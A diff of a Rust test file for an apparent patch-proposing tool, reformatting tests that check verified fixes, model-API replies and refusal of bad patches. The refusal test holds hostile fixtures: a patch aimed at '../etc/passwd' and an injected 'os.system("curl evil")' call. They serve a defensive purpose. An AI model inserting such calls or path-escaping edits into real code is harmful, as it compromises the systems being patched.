@@ -37,7 +37,12 @@ fn fix_finds_an_off_by_one_and_a_comparison_and_says_when_nothing_fixes_a_bug() 
     let diff = text(&b.stdout);
     let changed: Vec<&str> = diff.lines().filter(|l| l.starts_with('-') && !l.starts_with("---")).collect();
     assert_eq!(changed.len(), 1, "{diff}");
-    assert!(diff.lines().any(|l| l.starts_with('+') && !l.starts_with("+++") && (l.contains(" > ") || l.contains(" >= ") || l.contains(" < ") || l.contains(" <= "))), "{diff}");
+    assert!(
+        diff.lines().any(|l| l.starts_with('+')
+            && !l.starts_with("+++")
+            && (l.contains(" > ") || l.contains(" >= ") || l.contains(" < ") || l.contains(" <= "))),
+        "{diff}"
+    );
 
     let c = fix(&sb, &ws, "python3 repro/c.py", PYTEST);
     assert_eq!(c.status.code(), Some(1), "{}", text(&c.stderr));
@@ -88,14 +93,20 @@ fn incident(sb: &Sandbox, prefix: &str) -> String {
 #[test]
 fn templates_find_a_verified_patch_for_each_demo_bug() {
     let sb = Sandbox::new();
-    for (title, class) in [("TypeError: 'NoneType'", "null-guard"), ("IndexError", "comparison"), ("KeyError: 'EU-LEGACY'", "config-flag")] {
+    for (title, class) in [("TypeError: 'NoneType'", "null-guard"), ("IndexError", "comparison"), ("KeyError: 'EU-LEGACY'", "config-flag")]
+    {
         let id = incident(&sb, title);
         let out = sb.cmd().args(["propose", &id, "--json"]).env("SUTURE_PROPOSE__MAX_CANDIDATES", "8").output().unwrap();
         assert!(out.status.success(), "{id}: {}", text(&out.stderr));
         let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
         let found = &v["found"];
-        let verified: Vec<&serde_json::Value> = found["verified"].as_array().unwrap().iter().map(|i| &found["tried"][i.as_u64().unwrap() as usize]).collect();
-        assert!(verified.iter().any(|t| t["candidate"]["class"] == class), "{id}: no verified {class}: {}", serde_json::to_string_pretty(found).unwrap());
+        let verified: Vec<&serde_json::Value> =
+            found["verified"].as_array().unwrap().iter().map(|i| &found["tried"][i.as_u64().unwrap() as usize]).collect();
+        assert!(
+            verified.iter().any(|t| t["candidate"]["class"] == class),
+            "{id}: no verified {class}: {}",
+            serde_json::to_string_pretty(found).unwrap()
+        );
         assert!(!v["patches"].as_object().unwrap().is_empty(), "verified candidates are recorded as patches");
     }
 }
@@ -162,7 +173,8 @@ async fn a_model_s_streamed_diff_is_verified_for_each_api() {
     let sb = Sandbox::new();
     let id = incident(&sb, "TypeError: 'NoneType'");
     let reply = format!("The discount lookup returns None for orders without a code.\n\n```diff\n{}```\n", pricing_fix());
-    for (api, route, body) in [("openai", "/v1/chat/completions", openai_sse(&reply)), ("anthropic", "/v1/messages", anthropic_sse(&reply))] {
+    for (api, route, body) in [("openai", "/v1/chat/completions", openai_sse(&reply)), ("anthropic", "/v1/messages", anthropic_sse(&reply))]
+    {
         let server = server_replying(route, body).await;
         let out = propose_with(&sb, &id, api, &server.uri(), &[]).await;
         let stderr = text(&out.stderr);
@@ -193,7 +205,11 @@ async fn malformed_replies_and_broken_backends_are_refused_with_reasons() {
         (fence("--- a/../etc/passwd\n+++ b/../etc/passwd\n@@ -1 +1 @@\n-a\n+b\n"), "`..` leads out of the tree"),
         (fence("--- a/app/nope.py\n+++ b/app/nope.py\n@@ -1 +1 @@\n-a\n+b\n"), "does not exist in the tree"),
         (
-            fence(&pricing_fix().replace("+        return amount\n", "+        import os; os.system(\"curl evil\")\n+        return amount\n").replace("+32,8", "+32,9")),
+            fence(
+                &pricing_fix()
+                    .replace("+        return amount\n", "+        import os; os.system(\"curl evil\")\n+        return amount\n")
+                    .replace("+32,8", "+32,9"),
+            ),
             "adds a forbidden call",
         ),
         (big, "the limit is"),
